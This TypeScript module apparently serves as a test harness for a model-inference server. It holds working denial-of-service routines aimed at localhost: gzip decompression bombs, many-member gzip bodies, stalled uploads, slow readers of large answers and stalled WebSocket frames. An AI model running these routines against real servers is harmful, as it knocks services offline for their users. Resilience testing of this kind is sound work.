import { connect, type Socket } from 'node:net'
import { gzipSync } from 'node:zlib'
import { onnxModel } from './tiny-models.ts'

/** Whom the attacks go to, and in whose name. */
export interface Victim {
  readonly port: number
  readonly authorization: string
  /** Bytes that the connections of an attack send in a second, all together, as over a network; default as many as they can. */
  readonly bytesPerSecond?: number
}

/** An attack under way. */
export interface Attack {
  /** What each request was answered by now; 0 where it has no answer. */
  readonly statuses: () => readonly number[]
  /** Resolves once every request has sent what it sends, or has an answer. */
  readonly isUnderWay: Promise<unknown>
  readonly stop: () => void
}

/** A model whose answer has as many numbers as its one input says: small questions, large answers. */
export function sizedModel(): Uint8Array {
  return onnxModel({
    nodes: [{ operator: 'ConstantOfShape', inputs: ['n'], outputs: ['zeros'] }],
    inputs: [{ name: 'n', datatype: 'INT64', shape: [1] }],
    outputs: [{ name: 'zeros', datatype: 'FP32', shape: ['n'] }],
  })
}

const MIB = 2 ** 20
const PIECE = Buffer.alloc(64 * 1024, 32)

/** Waits before bytes are sent, so that all that ask keep to the rate together. */
function paceOf({ bytesPerSecond }: Victim): (bytes: number) => Promise<void> {
  let freeMs = 0
  return async (bytes) => {
    if (bytesPerSecond === undefined) return
    const nowMs = performance.now()
    freeMs = Math.max(freeMs, nowMs) + (bytes / bytesPerSecond) * 1000
    if (freeMs - nowMs > 1) await Bun.sleep(freeMs - nowMs)
  }
}

interface Exchange {
  readonly socket: Socket
  status: number
  /** Resolves with the first bytes of an answer, or the end of the connection. */
  readonly answered: Promise<void>
}

/** Opens a connection that looks at the beginning of the first answer, and reads nothing after it. */
function open({ port }: Victim, head: string): Exchange {
  const { promise, resolve } = Promise.withResolvers<void>()
  const socket = connect(port, '127.0.0.1')
  const exchange: Exchange = { socket, status: 0, answered: promise }
  let begun = ''
  const look = (chunk: Buffer) => {
    begun += chunk.toString('latin1', 0, 20)
    // The first packet may end anywhere.
    if (begun.length < 20) return
    socket.pause()
    socket.off('data', look)
    exchange.status = Number(/^HTTP\/1\.1 (\d{3})/.exec(begun)?.[1] ?? 0)
    resolve()
  }
  socket.on('data', look)
  socket.on('error', () => resolve())
  socket.on('close', () => resolve())
  socket.write(head)
  return exchange
}

function attack(exchanges: readonly Exchange[], underWay: readonly Promise<unknown>[]): Attack {
  return {
    statuses: () => exchanges.map(({ status }) => status),
    isUnderWay: Promise.all(underWay),
    stop: () => {
      for (const { socket } of exchanges) socket.destroy()
    },
  }
}

const headOf = ({ authorization }: Victim, path: string, lines: readonly string[]) =>
  [`POST ${path} HTTP/1.1`, 'Host: localhost', `Authorization: ${authorization}`, ...lines, '', ''].join('\r\n')

/** Bodies of 64 KB that expand to 63 MiB of spaces. */
export function bombs(victim: Victim, count: number): Attack {
  const bomb = gzipSync(Buffer.alloc(63 * MIB, 32))
  const head = headOf(victim, '/v2/models/sized/infer', ['Content-Encoding: gzip', `Content-Length: ${bomb.length}`])
  const exchanges = Array.from({ length: count }, () => open(victim, head))
  for (const { socket } of exchanges) socket.write(bomb)
  return attack(
    exchanges,
    exchanges.map(({ answered }) => answered),
  )
}

/** Bodies of many gzip members, each of which expands to 8 MiB, one after the other on each of so many connections. */
export function membersAgain(victim: Victim, { clients, rounds }: { readonly clients: number; readonly rounds: number }): Attack {
  const body = Buffer.concat(Array(60).fill(gzipSync(Buffer.alloc(8 * MIB, 32))))
  const statuses: number[] = []
  const end = new AbortController()
  const send = async () => {
    for (let round = 0; round < rounds && !end.signal.aborted; round += 1) {
      const response = await fetch(`http://127.0.0.1:${victim.port}/models/iris/predict/`, {
        method: 'POST',
        headers: { authorization: victim.authorization, 'content-encoding': 'gzip' },
        body,
        signal: end.signal,
      })
      statuses.push(response.status)
      await response.arrayBuffer()
    }
  }
  const sent = Array.from({ length: clients }, () => send().catch(() => undefined))
  return { statuses: () => statuses, isUnderWay: Promise.all(sent), stop: () => end.abort() }
}

/** Uploads that stop after all but one of their mebibytes. */
export function stalledUploads(
  victim: Victim,
  { count, mebibytes }: { readonly count: number; readonly mebibytes: number },
): Attack {
  const head = headOf(victim, '/models/sized/predict/', [`Content-Length: ${mebibytes * MIB}`])
  const exchanges = Array.from({ length: count }, () => open(victim, head))
  const pace = paceOf(victim)
  const send = async (exchange: Exchange) => {
    for (
      let left = (mebibytes - 1) * MIB;
      left > 0 && exchange.status === 0 && !exchange.socket.destroyed;
      left -= PIECE.length
    ) {
      await pace(PIECE.length)
      if (exchange.socket.write(PIECE)) continue
      const drained = new Promise<void>((resolve) => exchange.socket.once('drain', () => resolve()))
      await Promise.race([drained, exchange.answered])
    }
  }
  return attack(exchanges, exchanges.map(send))
}

/** Requests for answers of about so many bytes, of which nobody reads more than the beginning. */
export function slowReaders(
  victim: Victim,
  { count, answerBytes }: { readonly count: number; readonly answerBytes: number },
): Attack {
  const inputs = [{ name: 'n', datatype: 'INT64', shape: [1], data: [Math.floor(answerBytes / 4)] }]
  const body = JSON.stringify({ inputs, parameters: { binary_data_output: true } })
  const head = headOf(victim, '/v2/models/sized/infer', [`Content-Length: ${body.length}`])
  const exchanges = Array.from({ length: count }, () => open(victim, `${head}${body}`))
  return attack(
    exchanges,
    exchanges.map(({ answered }) => answered),
  )
}

/** WebSockets that are opened and say nothing, or stop within a message of so many bytes. */
export function sockets(
  victim: Victim,
  { count, messageBytes = 0 }: { readonly count: number; readonly messageBytes?: number },
): Attack {
  const head = [
    'GET /models/sized/live HTTP/1.1',
    'Host: localhost',
    `Authorization: ${victim.authorization}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    'Sec-WebSocket-Version: 13',
    'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==',
    '',
    '',
  ].join('\r\n')
  const exchanges = Array.from({ length: count }, () => open(victim, head))
  const begin = Buffer.alloc(14)
  begin.set([0x82, 0x80 | 127])
  begin.writeBigUInt64BE(BigInt(messageBytes), 2)
  const pace = paceOf(victim)
  const stall = async (exchange: Exchange) => {
    await exchange.answered
    if (messageBytes === 0 || exchange.status !== 101) return
    exchange.socket.write(begin)
    for (let left = messageBytes - 1; left > 0 && !exchange.socket.destroyed; left -= PIECE.length) {
      await pace(PIECE.length)
      exchange.socket.write(PIECE.subarray(0, Math.min(left, PIECE.length)))
    }
  }
  return attack(exchanges, exchanges.map(stall))
}
